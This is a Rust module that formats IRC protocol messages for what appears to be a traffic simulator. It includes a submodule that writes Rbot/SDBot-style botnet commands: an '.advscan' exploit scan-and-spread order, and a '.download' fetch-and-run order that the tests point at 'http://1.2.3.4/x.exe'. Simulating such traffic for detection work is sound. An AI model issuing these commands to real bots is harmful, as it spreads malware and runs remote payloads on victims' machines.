//! IRC messages (RFC 1459 / RFC 2812): `[:prefix] COMMAND params [:trailing]\r\n`,
//! numerics, and the vocabulary of Rbot/SDBot-style bots.

use super::SimRng;
use rand::Rng;

/// One IRC message line, CRLF-terminated. `trailing` (if any) is the last
/// parameter and may contain spaces.
pub fn line(
    prefix: Option<&str>,
    command: &str,
    params: &[&str],
    trailing: Option<&str>,
) -> String {
    let mut s = String::with_capacity(64);
    if let Some(p) = prefix {
        s.push(':');
        s.push_str(p);
        s.push(' ');
    }
    s.push_str(command);
    for p in params {
        s.push(' ');
        s.push_str(p);
    }
    if let Some(t) = trailing {
        s.push_str(" :");
        s.push_str(t);
    }
    s.push_str("\r\n");
    s
}

/// A numeric reply from `server` to `nick`.
pub fn numeric(server: &str, code: u16, nick: &str, params: &[&str], trailing: &str) -> String {
    let c = format!("{code:03}");
    let mut ps = vec![nick];
    ps.extend_from_slice(params);
    line(Some(server), &c, &ps, Some(trailing))
}

/// `nick!user@host`.
pub fn mask(nick: &str, user: &str, host: &str) -> String {
    format!("{nick}!{user}@{host}")
}

/// Client registration: optional PASS, NICK, USER.
pub fn registration(pass: Option<&str>, nick: &str, user: &str, realname: &str) -> String {
    let mut s = String::new();
    if let Some(p) = pass {
        s.push_str(&line(None, "PASS", &[p], None));
    }
    s.push_str(&line(None, "NICK", &[nick], None));
    s.push_str(&line(None, "USER", &[user, "0", "*"], Some(realname)));
    s
}

/// The server's welcome burst: 001–005, LUSERS numerics and the MOTD.
pub fn welcome(server: &str, network: &str, nick: &str, user_host: &str, motd: &[&str]) -> String {
    let mut s = String::new();
    s.push_str(&numeric(
        server,
        1,
        nick,
        &[],
        &format!("Welcome to the {network} IRC Network {nick}!{user_host}"),
    ));
    s.push_str(&numeric(
        server,
        2,
        nick,
        &[],
        &format!("Your host is {server}, running version Unreal3.2"),
    ));
    s.push_str(&numeric(
        server,
        3,
        nick,
        &[],
        "This server was created Mon Mar 1 2004 at 12:00:00 GMT",
    ));
    s.push_str(&line(
        Some(server),
        "004",
        &[
            nick,
            server,
            "Unreal3.2",
            "iowghraAsORTVSxNCWqBzvdHtGp",
            "lvhopsmntikrRcaqOALQbSeIKVfMCuzNTGj",
        ],
        None,
    ));
    s.push_str(&numeric(
        server,
        5,
        nick,
        &[
            "NETWORK=".to_string().add(network).as_str(),
            "CHANTYPES=#",
            "PREFIX=(qaohv)~&@%+",
        ],
        "are supported by this server",
    ));
    s.push_str(&numeric(
        server,
        251,
        nick,
        &[],
        "There are 3 users and 14 invisible on 1 servers",
    ));
    s.push_str(&numeric(
        server,
        375,
        nick,
        &[],
        &format!("- {server} Message of the Day -"),
    ));
    for l in motd {
        s.push_str(&numeric(server, 372, nick, &[], &format!("- {l}")));
    }
    s.push_str(&numeric(server, 376, nick, &[], "End of /MOTD command."));
    s
}

trait AddStr {
    fn add(self, s: &str) -> String;
}
impl AddStr for String {
    fn add(mut self, s: &str) -> String {
        self.push_str(s);
        self
    }
}

/// `JOIN #channel [key]`.
pub fn join(channel: &str, key: Option<&str>) -> String {
    match key {
        Some(k) => line(None, "JOIN", &[channel, k], None),
        None => line(None, "JOIN", &[channel], None),
    }
}

/// The server's answer to a successful JOIN: the echoed JOIN, topic (332/333)
/// and names (353/366).
pub fn join_reply(
    server: &str,
    who: &str,
    nick: &str,
    channel: &str,
    topic: Option<(&str, &str)>,
    names: &[&str],
) -> String {
    let mut s = line(Some(who), "JOIN", &[], Some(channel));
    if let Some((t, setter)) = topic {
        s.push_str(&numeric(server, 332, nick, &[channel], t));
        s.push_str(&line(
            Some(server),
            "333",
            &[nick, channel, setter, "1082448000"],
            None,
        ));
    }
    s.push_str(&numeric(
        server,
        353,
        nick,
        &["@", channel],
        &names.join(" "),
    ));
    s.push_str(&numeric(
        server,
        366,
        nick,
        &[channel],
        "End of /NAMES list.",
    ));
    s
}

/// `PRIVMSG target :text` (from `prefix` when relayed by the server).
pub fn privmsg(prefix: Option<&str>, target: &str, text: &str) -> String {
    line(prefix, "PRIVMSG", &[target], Some(text))
}

/// `NOTICE target :text`.
pub fn notice(prefix: Option<&str>, target: &str, text: &str) -> String {
    line(prefix, "NOTICE", &[target], Some(text))
}

/// `TOPIC #channel :text`.
pub fn topic(prefix: Option<&str>, channel: &str, text: &str) -> String {
    line(prefix, "TOPIC", &[channel], Some(text))
}

/// `PING :token` from the server.
pub fn ping(prefix: Option<&str>, token: &str) -> String {
    line(prefix, "PING", &[], Some(token))
}

/// `PONG server :token`.
pub fn pong(server: &str, token: &str) -> String {
    line(None, "PONG", &[server], Some(token))
}

/// `MODE target modes [args]`.
pub fn mode(prefix: Option<&str>, target: &str, modes: &str, args: &[&str]) -> String {
    let mut ps = vec![target, modes];
    ps.extend_from_slice(args);
    line(prefix, "MODE", &ps, None)
}

/// `QUIT :message`.
pub fn quit(msg: &str) -> String {
    line(None, "QUIT", &[], Some(msg))
}

/// A bot nick in the Rbot/SDBot style: country tag, `|`, random digits
/// (`[USA]|1234567`).
pub fn bot_nick(rng: &mut SimRng) -> String {
    const TAGS: &[&str] = &["USA", "DEU", "GBR", "FRA", "CAN", "NLD", "XP", "2K"];
    let tag = TAGS[rng.gen_range(0..TAGS.len())];
    let n: u32 = rng.gen_range(1_000_000..10_000_000);
    format!("[{tag}]|{n}")
}

/// A short random-letter-and-digit nick (`xX123`-like).
pub fn trojan_nick(rng: &mut SimRng) -> String {
    let a = (b'a' + rng.gen_range(0..26)) as char;
    let b = (b'A' + rng.gen_range(0..26)) as char;
    let n: u32 = rng.gen_range(100..1000);
    format!("{a}{b}{n}")
}

/// Bot command strings an Rbot/SDBot-style controller sends.
pub mod bot {
    /// `.advscan <exploit> <threads> <delay> <minutes> <range> -r -s` — scan and spread.
    pub fn advscan(module: &str, threads: u32, delay: u32, minutes: u32, range: &str) -> String {
        format!(".advscan {module} {threads} {delay} {minutes} {range} -r -s")
    }
    /// `.download <url> <path> 1` — fetch and run.
    pub fn download(url: &str, path: &str) -> String {
        format!(".download {url} {path} 1")
    }
    /// The bot's acknowledgement of a scan order.
    pub fn scan_ack(module: &str, range: &str, port: u16, threads: u32, minutes: u32) -> String {
        format!(
            "[SCAN]: Random Port Scan started on {range}:{port} with a delay of 5 seconds for {minutes} minutes using {threads} threads. ({module})"
        )
    }
    /// The bot's report of a finished download.
    pub fn download_ack(bytes: usize, path: &str, secs: u32) -> String {
        format!(
            "[DOWNLOAD]: Downloaded {:.1} KB to {path} @ {:.1} KB/sec.",
            bytes as f64 / 1024.0,
            (bytes as f64 / 1024.0) / f64::from(secs.max(1))
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn lines_follow_the_grammar() {
        assert_eq!(line(None, "NICK", &["xX123"], None), "NICK xX123\r\n");
        assert_eq!(
            line(
                Some("irc.example.net"),
                "PRIVMSG",
                &["#mip"],
                Some("hello there")
            ),
            ":irc.example.net PRIVMSG #mip :hello there\r\n"
        );
        assert_eq!(
            numeric("srv", 1, "nick", &[], "Welcome"),
            ":srv 001 nick :Welcome\r\n"
        );
        assert_eq!(join("#mip", Some("k3y")), "JOIN #mip k3y\r\n");
        assert_eq!(pong("srv", "12345"), "PONG srv :12345\r\n");
        let r = registration(Some("pw"), "n", "u", "Real Name");
        assert_eq!(r, "PASS pw\r\nNICK n\r\nUSER u 0 * :Real Name\r\n");
    }

    #[test]
    fn welcome_burst_is_all_crlf_lines_with_numerics() {
        let w = welcome("irc.x", "X", "nick", "u@h", &["line one", "line two"]);
        let lines: Vec<&str> = w.split("\r\n").filter(|l| !l.is_empty()).collect();
        assert!(w.ends_with("\r\n"));
        assert!(lines.iter().all(|l| l.starts_with(":irc.x ")));
        let codes: Vec<&str> = lines
            .iter()
            .map(|l| l.split(' ').nth(1).unwrap_or(""))
            .collect();
        assert_eq!(
            codes,
            [
                "001", "002", "003", "004", "005", "251", "375", "372", "372", "376"
            ]
        );
        assert!(lines.iter().all(|l| l.len() <= 510));
    }

    #[test]
    fn bot_nicks_and_commands() {
        let mut rng = SimRng::seed_from_u64(9);
        let n = bot_nick(&mut rng);
        assert!(n.starts_with('['));
        let digits = n.rsplit('|').next().unwrap();
        assert_eq!(digits.len(), 7);
        assert!(digits.bytes().all(|b| b.is_ascii_digit()));
        assert_eq!(
            bot::advscan("dcom135", 100, 5, 0, "10.2.x.x"),
            ".advscan dcom135 100 5 0 10.2.x.x -r -s"
        );
        assert!(
            bot::download("http://1.2.3.4/x.exe", "c:\\x.exe").starts_with(".download http://")
        );
    }
}
